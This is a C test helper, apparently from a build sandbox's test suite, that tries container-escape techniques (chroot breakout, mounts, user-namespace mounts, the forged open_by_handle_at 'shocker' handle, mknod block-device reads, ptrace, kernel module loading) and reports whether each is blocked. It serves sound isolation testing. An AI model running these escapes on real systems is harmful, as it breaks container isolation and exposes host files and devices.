/*
 * escape: tries, from inside a container, the known ways out of it, one per command,
 * with raw system calls (busybox cannot chroot without chdir, and has no ptrace,
 * open_by_handle_at or init_module). Built static by test/helpers/escapeHelper.ts.
 *
 * Every attempt prints one line: "NAME ESCAPED detail" when the kernel let it through,
 * "NAME blocked ERRNO" when it refused (ERRNO is the number). The exit status is 0
 * either way: the test reads the lines (and checks the host side itself).
 *
 *   escape chroot READ CREATE     mkdir /jail; chroot /jail; chdir .. x64; chroot .;
 *                                 then read READ and create CREATE (host paths)
 *   escape chroot-fd READ CREATE  the same, back out through an fd of / kept open
 *   escape mount                  mount(2) of a tmpfs, proc, a bind of /, a remount
 *   escape userns-mount           unshare(CLONE_NEWUSER), map root, unshare(CLONE_NEWNS), mount
 *   escape handle                 open_by_handle_at: of / and a forged ext4 root handle
 *   escape mknod MAJOR MINOR      mknod a block device in several dirs and read it
 *   escape ptrace PID             PTRACE_ATTACH and kill(PID, 0)
 *   escape module                 init_module and finit_module
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <signal.h>
#include <unistd.h>

static void result(const char *name, int ok, const char *detail) {
  int e = errno;
  if (ok) printf("%s ESCAPED %s\n", name, detail);
  else printf("%s blocked %d\n", name, e);
  fflush(stdout);
}

/* reach reads path and creates create once the root may have been left. */
static void reach(const char *name, const char *path, const char *create) {
  char buf[4096];
  char line[64];
  snprintf(line, sizeof line, "%s-read", name);
  int fd = open(path, O_RDONLY);
  if (fd >= 0) {
    ssize_t n = read(fd, buf, sizeof buf - 1);
    buf[n > 0 ? n : 0] = 0;
    result(line, 1, buf);
    close(fd);
  } else {
    result(line, 0, "");
  }
  snprintf(line, sizeof line, "%s-create", name);
  fd = open(create, O_WRONLY | O_CREAT | O_EXCL, 0644);
  result(line, fd >= 0, create);
  if (fd >= 0) close(fd);
}

static int chroot_escape(int via_fd, const char *path, const char *create) {
  const char *name = via_fd ? "chroot-fd" : "chroot";
  int up = open("/", O_RDONLY | O_DIRECTORY);
  if (mkdir("/tsbuild-jail", 0755) != 0 && errno != EEXIST) return result(name, 0, ""), 0;
  if (chroot("/tsbuild-jail") != 0) return result(name, 0, ""), 0;
  /* cwd is still outside the new root: ".." is not stopped at it. */
  if (via_fd && fchdir(up) != 0) return result(name, 0, ""), 0;
  for (int i = 0; i < 64; i++) chdir("..");
  if (chroot(".") != 0) return result(name, 0, ""), 0;
  chdir("/");
  reach(name, path, create);
  return 0;
}

static void try_mount(const char *name, const char *src, const char *tgt, const char *type, unsigned long flags) {
  int r = mount(src, tgt, type, flags, NULL);
  result(name, r == 0, tgt);
  if (r == 0) umount2(tgt, MNT_DETACH);
}

static int mounts(void) {
  mkdir("/tsbuild-mnt", 0755);
  try_mount("mount-tmpfs", "none", "/tsbuild-mnt", "tmpfs", 0);
  try_mount("mount-proc", "proc", "/tsbuild-mnt", "proc", 0);
  try_mount("mount-bind", "/", "/tsbuild-mnt", NULL, MS_BIND | MS_REC);
  try_mount("mount-remount", NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND);
  try_mount("mount-sysfs", "sysfs", "/tsbuild-mnt", "sysfs", 0);
  return 0;
}

static int write_file(const char *path, const char *s) {
  int fd = open(path, O_WRONLY);
  if (fd < 0) return -1;
  ssize_t n = write(fd, s, strlen(s));
  close(fd);
  return n == (ssize_t)strlen(s) ? 0 : -1;
}

static int userns_mount(void) {
  char map[64];
  uid_t uid = geteuid();
  gid_t gid = getegid();
  if (unshare(CLONE_NEWUSER) != 0) return result("userns", 0, ""), 0;
  result("userns", 1, "unshare(CLONE_NEWUSER)");
  write_file("/proc/self/setgroups", "deny");
  snprintf(map, sizeof map, "0 %u 1", uid);
  write_file("/proc/self/uid_map", map);
  snprintf(map, sizeof map, "0 %u 1", gid);
  write_file("/proc/self/gid_map", map);
  if (unshare(CLONE_NEWNS) != 0) return result("userns-mountns", 0, ""), 0;
  mkdir("/tsbuild-mnt", 0755);
  try_mount("userns-mount-tmpfs", "none", "/tsbuild-mnt", "tmpfs", 0);
  try_mount("userns-mount-bind", "/", "/tsbuild-mnt", NULL, MS_BIND | MS_REC);
  try_mount("userns-mount-proc", "proc", "/proc", "proc", 0);
  return 0;
}

struct handle8 {
  unsigned int handle_bytes;
  int handle_type;
  unsigned char f_handle[128];
};

static int handles(void) {
  struct handle8 h;
  int mount_id;
  int root = open("/", O_RDONLY | O_DIRECTORY);
  h.handle_bytes = 128;
  if (syscall(SYS_name_to_handle_at, AT_FDCWD, "/", &h, &mount_id, 0) == 0) {
    int fd = syscall(SYS_open_by_handle_at, root, &h, O_RDONLY);
    result("handle-root", fd >= 0, "/");
  }
  /* The "shocker" handle: inode 2, generation 0 (an ext4 root), opened through a host
   * file bound in (/etc/resolv.conf is a bind of the host's). */
  int bound = open("/etc/resolv.conf", O_RDONLY);
  memset(&h, 0, sizeof h);
  h.handle_bytes = 8;
  h.handle_type = 1; /* FILEID_INO32_GEN */
  h.f_handle[0] = 2;
  int fd = syscall(SYS_open_by_handle_at, bound >= 0 ? bound : root, &h, O_RDONLY | O_DIRECTORY);
  result("handle-forged", fd >= 0, "inode 2");
  return 0;
}

static int mknods(unsigned maj, unsigned min) {
  const char *dirs[] = {"/tmp", "/dev", "/dev/shm", "/", "/etc", NULL};
  char path[256];
  char buf[512];
  for (int i = 0; dirs[i]; i++) {
    snprintf(path, sizeof path, "%s/tsbuild-blk", strcmp(dirs[i], "/") == 0 ? "" : dirs[i]);
    unlink(path);
    if (mknod(path, S_IFBLK | 0600, makedev(maj, min)) != 0) {
      result("mknod", 0, path);
      continue;
    }
    int fd = open(path, O_RDONLY);
    ssize_t n = fd >= 0 ? read(fd, buf, sizeof buf) : -1;
    result("mknod-read", n > 0, path);
    if (fd >= 0) close(fd);
    unlink(path);
  }
  return 0;
}

static int trace(pid_t pid) {
  result("ptrace", ptrace(PTRACE_ATTACH, pid, 0, 0) == 0, "attached");
  result("kill", kill(pid, 0) == 0, "signalled");
  return 0;
}

static int modules(void) {
  static const char elf[64] = "\177ELF";
  result("init_module", syscall(SYS_init_module, elf, sizeof elf, "") == 0, "loaded");
  int fd = open("/bin/busybox", O_RDONLY);
  result("finit_module", syscall(SYS_finit_module, fd, "", 0) == 0, "loaded");
  return 0;
}

int main(int argc, char **argv) {
  const char *cmd = argc > 1 ? argv[1] : "";
  if (!strcmp(cmd, "chroot") && argc == 4) return chroot_escape(0, argv[2], argv[3]);
  if (!strcmp(cmd, "chroot-fd") && argc == 4) return chroot_escape(1, argv[2], argv[3]);
  if (!strcmp(cmd, "mount")) return mounts();
  if (!strcmp(cmd, "userns-mount")) return userns_mount();
  if (!strcmp(cmd, "handle")) return handles();
  if (!strcmp(cmd, "mknod") && argc == 4) return mknods(atoi(argv[2]), atoi(argv[3]));
  if (!strcmp(cmd, "ptrace") && argc == 3) return trace(atoi(argv[2]));
  if (!strcmp(cmd, "module")) return modules();
  fprintf(stderr, "usage: escape chroot|chroot-fd READ CREATE | mount | userns-mount | handle | mknod MAJ MIN | ptrace PID | module\n");
  return 2;
}
